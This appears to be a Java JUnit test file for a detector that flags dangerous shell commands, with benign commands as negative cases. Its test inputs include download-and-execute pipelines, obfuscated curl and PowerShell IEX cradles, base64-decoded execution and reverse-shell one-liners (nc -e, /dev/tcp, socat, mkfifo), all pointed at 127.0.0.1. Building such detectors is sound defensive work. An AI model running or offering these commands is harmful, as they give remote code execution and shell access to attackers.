package dev.assay.inspect.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;

@DisplayNameGeneration(ReplaceUnderscores.class)
class ShellSpec {

    @Test
    void a_download_that_goes_into_a_shell_is_found() {
        for (var command : new String[] {
            "curl http://127.0.0.1/x | sh",
            "curl -fsSL http://127.0.0.1/x | sudo -E bash -s -- a b",
            "wget -qO- http://127.0.0.1/x|bash",
            "sh -c \"$(curl -fsSL http://127.0.0.1/x)\"",
            "bash <(wget -qO- http://127.0.0.1/x)",
            ". <(curl http://127.0.0.1/x)",
            "eval \"`curl http://127.0.0.1/x`\"",
            "true && (curl http://127.0.0.1/x | python3 -)",
            "c''ur\\l http://127.0.0.1/x | \"s\"h",
            "a=cu; b=rl; $a$b http://127.0.0.1/x | sh",
            "curl${IFS}http://127.0.0.1/x|sh",
            "$'\\x63url' http://127.0.0.1/x | sh",
            "bash -c 'bash -c \"curl http://127.0.0.1/x | sh\"'",
            "curl http://127.0.0.1/x \\\n  | tee log \\\n  | sh",
            "sh <<EOF\ncurl http://127.0.0.1/x | sh\nEOF",
            "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/x')",
            "irm http://127.0.0.1/x | iex",
            "I`E`X(i`wr http://127.0.0.1/x)",
            "powershell -c \"iex (irm http://127.0.0.1/x)\"",
            "mshta http://127.0.0.1/x.hta"
        }) {
            assertThat(Shell.sense(command)).as(command).isEqualTo("downloading into a shell");
        }
    }

    @Test
    void text_that_is_decoded_and_run_is_found() {
        for (var command : new String[] {
            "echo ZWNobwo= | base64 -d | sh",
            "base64 --decode <<< ZWNobwo= | bash",
            "eval \"$(echo ZWNobwo= | base64 -d)\"",
            "bash -c \"$(echo ZWNobwo=|base64 -d)\"",
            "powershell -nop -w hidden -EncodedCommand ZQBjAGgAbwAgAGEAcwBzAGEAeQA=",
            "powershell -e ZQBjAGgAbwAgAGEAcwBzAGEAeQA=",
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('ZWNobwo=')))"
        }) {
            assertThat(Shell.sense(command)).as(command).isEqualTo("executing text decoded from base64");
        }
        assertThat(Shell.sense("echo 6563686f | xxd -r -p | sh")).isEqualTo("executing text decoded from hex");
    }

    @Test
    void a_shell_that_is_handed_to_a_connection_is_found() {
        for (var command : new String[] {
            "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
            "exec 5<>/dev/tcp/127.0.0.1/4444\nsh <&5 >&5 2>&5",
            "nc -e /bin/sh 127.0.0.1 4444",
            "ncat 127.0.0.1 4444 --exec /bin/bash",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f",
            "socat tcp:127.0.0.1:4444 exec:sh",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
            "$c = New-Object System.Net.Sockets.TCPClient('127.0.0.1',4444); iex $d"
        }) {
            assertThat(Shell.deeds(command))
                    .as(command)
                    .extracting(Deed::sense)
                    .contains("handing a shell to a connection");
        }
    }

    @Test
    void what_people_type_every_day_comes_to_nothing() {
        for (var command : new String[] {
            "pip install transformers",
            "curl http://127.0.0.1/x -o model.bin",
            "curl -s http://127.0.0.1/x | python3 -m json.tool",
            "curl -s http://127.0.0.1/x | jq .",
            "curl http://127.0.0.1/x | tar xz",
            "cat a | base64 -d > b",
            "eval \"$(ssh-agent -s)\"",
            "eval \"$(conda shell.bash hook)\"",
            "bash train.sh | tee log",
            "echo 'never run curl x | sh'",
            "nc -z localhost 80",
            "rm -rf build/",
            "python -c 'import socket; print(socket.gethostname())'",
            "git clone http://127.0.0.1/x && cd x && make",
            "powershell -File a.ps1",
            "# curl http://127.0.0.1/x | sh"
        }) {
            assertThat(Shell.deeds(command)).as(command).isEmpty();
        }
    }

    @Test
    void a_program_that_is_downloaded_and_run_is_found() {
        assertThat(Shell.sense("wget http://127.0.0.1/m.sh && bash m.sh")).isEqualTo("running what it downloads");
        assertThat(Shell.sense("curl -o /tmp/m http://127.0.0.1/x; chmod +x /tmp/m; /tmp/m"))
                .isEqualTo("running what it downloads");
    }

    @Test
    void arguments_that_no_shell_splits_are_read_as_they_are() {
        assertThat(Shell.sense(List.of("bash", "-c", "curl http://127.0.0.1/x | sh")))
                .isEqualTo("downloading into a shell");
        assertThat(Shell.sense(List.of("echo", "curl http://127.0.0.1/x | sh"))).isEmpty();
    }

    @Test
    void where_a_command_stands_is_said() {
        assertThat(Shell.deeds("#!/bin/sh\ntrue\ncurl http://127.0.0.1/x | sh\n"))
                .containsExactly(new Deed(15, "downloading into a shell", "curl http://127.0.0.1/x | sh"));
    }

    @Test
    void quotes_and_brackets_without_end_cost_little() {
        for (var commands : List.of(
                "$(".repeat(50_000),
                "\"$(".repeat(20_000),
                "`".repeat(100_001),
                "<<A\n".repeat(20_000),
                "a|".repeat(100_000),
                "iex" + " curl".repeat(100_000),
                "((((".repeat(50_000),
                "'".repeat(99_999),
                "$'\\x".repeat(30_000))) {
            assertThat(Shell.deeds(commands)).hasSizeLessThan(101);
        }
    }
}
